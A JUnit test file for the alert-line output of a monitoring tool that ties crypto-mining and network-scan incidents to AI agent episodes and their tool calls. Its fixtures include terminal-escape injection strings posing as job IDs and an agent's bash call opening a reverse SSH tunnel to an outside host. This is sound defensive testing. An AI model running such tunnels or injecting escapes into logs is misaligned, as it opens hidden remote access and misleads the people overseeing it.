package io.vigil.tools.demo;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.records.AgentCall;
import io.vigil.records.AgentEpisode;
import io.vigil.records.Alert;
import io.vigil.records.Fixtures;
import io.vigil.records.IncidentState;
import io.vigil.records.Printable;
import io.vigil.records.Reason;
import io.vigil.records.TransitionCause;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The demo's alert lines, without the demo: what they say, and that ids from data reach the terminal escaped. */
class DemoLinesTest {

    @Test
    void anIncidentsOpeningSaysWhenWhichJobWhatAndWhy() {
        assertThat(Demo.describe(Fixtures.alert()))
                .startsWith("OPEN   03:00-03:05  job-42")
                .contains("CRYPTO_MINING+NETWORK_SCAN", "score 0.93", "HIGH")
                .contains("gpu_util_without_tensor=0.97 (fleet 0.15); distinct_external_ips=41.00 (fleet 3.00)");
    }

    @Test
    void aJobIdOrReasonWithTerminalEscapesIsPrintedEscapedOnOneLine() {
        String job = "job\u001b[2J\u001b]0;owned\u0007\r\nALERT 00:00-00:01  fake\u0000\u202e";
        Alert a = Fixtures.alertBuilder()
                .setJobId(job)
                .setReasons(List.of(Reason.newBuilder()
                        .setFeature("f\u001b[31m")
                        .setValue(1.0)
                        .setJobBaseline(null)
                        .setFleetBaseline(null)
                        .setWeight(1.0)
                        .build()))
                .build();

        String line = Demo.describe(a);

        assertThat(line)
                .contains("job\\u001b[2J\\u001b]0;owned\\u0007\\r\\nALERT 00:00-00:01  fake\\u0000\\u202e")
                .contains("f\\u001b[31m=1.00");
        assertThat(line.codePoints().filter(c -> c != '\\').filter(Printable::escaped))
                .as("no raw control character in " + Printable.escape(line))
                .isEmpty();
    }

    /** Under an incident's opening: the episode and tool call behind it, escaped, on one line; nothing without one. */
    @Test
    void theEpisodeAndToolCallBehindAnIncidentGetALineOfTheirOwn() {
        Alert open = Fixtures.alertBuilder()
                .setIncidentState(IncidentState.OPEN)
                .setAgentContext(List.of(AgentEpisode.newBuilder()
                        .setEpisodeId("ep-1207\u001b[2J")
                        .setRolloutWorker("rollout-3")
                        .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22")
                        .setCalls(List.of(AgentCall.newBuilder()
                                .setStep(14L)
                                .setTool("bash")
                                .setCommand("ssh -f -N -R 2222:localhost:22 agent@203.0.113.9")
                                .setStartTs(Fixtures.BEGINNING)
                                .setEndTs(Fixtures.BEGINNING)
                                .setExitCode(0)
                                .setReason("tool call started 1.8 s before the first packet to 203.0.113.9:22;"
                                        + " command names 203.0.113.9; command contains ssh -R")
                                .build()))
                        .build()))
                .build();

        assertThat(Demo.behind(open, null))
                .isEqualTo("       behind it: episode ep-1207\\u001b[2J on rollout-3, step 14: bash"
                        + " `ssh -f -N -R 2222:localhost:22 agent@203.0.113.9` (tool call started 1.8 s before the first"
                        + " packet to 203.0.113.9:22; command names 203.0.113.9; command contains ssh -R)");
        assertThat(Demo.behind(
                        Fixtures.alertBuilder()
                                .setIncidentState(IncidentState.OPEN)
                                .build(),
                        null))
                .isNull();
        assertThat(Demo.behind(
                        Alert.newBuilder(open)
                                .setIncidentState(IncidentState.CLOSE)
                                .build(),
                        null))
                .as("a CLOSE says what it was, not again what began it")
                .isNull();
        Alert update = Alert.newBuilder(open)
                .setIncidentState(IncidentState.UPDATE)
                .setTransitionCauses(List.of(TransitionCause.ONGOING))
                .build();
        assertThat(Demo.behind(update, "ep-1207\u001b[2J"))
                .as("an update that names the episode told before says nothing again")
                .isNull();
        assertThat(Demo.behind(update, "ep-benign"))
                .as("an update that names a new episode by its commands says so")
                .startsWith("       behind it: episode ep-1207");
    }

    /** A call named only for starting near the packet is said to be that, and a later update names no such call. */
    @Test
    void aCallNamedOnlyForItsTimeIsNotSaidToBeBehindIt() {
        AgentEpisode near = AgentEpisode.newBuilder()
                .setEpisodeId("ep-7")
                .setReason("tool call started 0.4 s before the first packet to 192.0.2.10:443")
                .setCalls(List.of(AgentCall.newBuilder()
                        .setStep(3L)
                        .setTool("bash")
                        .setCommand("pytest -q")
                        .setStartTs(Fixtures.BEGINNING)
                        .setEndTs(Fixtures.BEGINNING)
                        .setReason("tool call started 0.4 s before the first packet to 192.0.2.10:443")
                        .build()))
                .build();
        Alert open = Fixtures.alertBuilder()
                .setIncidentState(IncidentState.OPEN)
                .setAgentContext(List.of(near))
                .build();

        assertThat(Demo.behind(open, null))
                .startsWith("       nearest call in time (its command says nothing of it): episode ep-7");
        assertThat(Demo.behind(
                        Alert.newBuilder(open)
                                .setIncidentState(IncidentState.UPDATE)
                                .setTransitionCauses(List.of(TransitionCause.ONGOING))
                                .build(),
                        null))
                .isNull();
    }
}
